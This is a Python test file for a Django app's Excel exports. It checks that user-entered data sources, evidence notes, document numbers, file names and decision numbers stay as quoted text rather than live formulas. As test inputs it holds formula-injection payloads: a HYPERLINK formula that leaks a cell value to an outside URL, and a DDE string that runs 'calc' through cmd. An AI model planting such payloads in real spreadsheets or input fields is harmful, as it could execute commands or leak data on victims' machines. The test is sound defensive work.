"""No text a user typed becomes a formula in a workbook the product writes (issue 16, 2).

A data source, an evidence note, an evidence document number, an uploaded file's name and
a decision number all hold a formula-looking string; every workbook (the province
workbook, the scorecard workbook, the pre-filled entry template) is read back with
openpyxl: the strings are there as text, and no cell anywhere is a formula.
"""

from __future__ import annotations

import io
from datetime import date

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from smartcommune.rounds.actions import do_add_evidence
from tests.results.test_exports_world import save, step, verify_all
from tests.rounds.fixtures import assessment_of, full_values, open_round, world  # noqa: F401
from tests.rounds.test_uploads import tiny_pdf

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://x"&C5,"Bấm")'
FILE_NAME = '=HYPERLINK("x"&C5,"Bấm").pdf'  # an upload's name keeps no "/"
OTHERS = ("+1+2", "-3+4", "@SUM(A1)", "=1+1", "=cmd|' /C calc'!A0")


@pytest.fixture
def published(world, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    w = world
    w.round_2024 = open_round(w, year=2024)
    values = full_values()
    values["1.2"] = {**values["1.2"], "source": FORMULA}
    for code, text in zip(("1.3", "2.1", "2.2", "3.1", "3.2"), OTHERS):
        values[code] = {**values[code], "source": text}
    a = save(assessment_of(w.round_2024, w.a), w.officer_a, values)
    do_add_evidence(actor=w.officer_a, assessment=a, criterion_code="1.2", kind="document",
                    document_number=FORMULA, note=FORMULA)
    do_add_evidence(actor=w.officer_a, assessment=a, criterion_code="1.3", kind="file", note=FORMULA,
                    file=SimpleUploadedFile(FILE_NAME, tiny_pdf()))
    a = step(w.officer_a, a, "submit")
    a = step(w.district1, a, "district_forward")
    a = verify_all(w, a)
    a = step(w.secretariat, a, "appraise")
    a = step(w.secretariat, a, "record_decision", recognised=True, number=FORMULA, date=date(2025, 3, 1),
             signer="Nguyễn Văn A")
    w.pub_a = step(w.secretariat, a, "publish")
    return w


def cells_of(client, user, url):
    client.logout()
    if user is not None:
        client.force_login(user)
    response = client.get(url)
    assert response.status_code == 200, url
    book = load_workbook(io.BytesIO(response.content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert formulas == []
    # Marked like text typed after an apostrophe: it stays text when edited in Excel.
    assert all(c.quotePrefix for c in cells if c.value in (FORMULA, FILE_NAME, *OTHERS))
    return cells


def texts(cells):
    return [c.value for c in cells if isinstance(c.value, str)]


def test_province_workbook(client, published):
    w = published
    for viewer in (None, w.secretariat):  # the public copy and the secretariat's
        cells = cells_of(client, viewer, reverse("exports:province_xlsx", args=("83", 2024)))
        found = texts(cells)
        assert f"{FORMULA} ngày 01/03/2025" in found  # the decision
        if viewer is not None:
            assert FORMULA in found and set(OTHERS) <= set(found)  # data sources
        assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))


def test_scorecard_workbook(client, published):
    w = published
    cells = cells_of(client, w.officer_a, reverse("exports:scorecard_xlsx", args=(w.a.pk, 2024)))
    found = texts(cells)
    assert FORMULA in found  # the data source and the evidence's document number
    assert FILE_NAME in found  # the uploaded file's name
    assert set(OTHERS) <= set(found)
    cells_of(client, None, reverse("exports:scorecard_xlsx", args=(w.a.pk, 2024)))


def test_prefilled_template(client, published):
    w = published
    url = reverse("imports:assessment_template", args=(w.pub_a.pk,)) + "?prefill=1"
    cells = cells_of(client, w.officer_a, url)
    source = [c for c in cells if c.value == FORMULA]
    assert source and all(c.data_type == "s" for c in source)
    assert set(OTHERS) <= set(texts(cells))
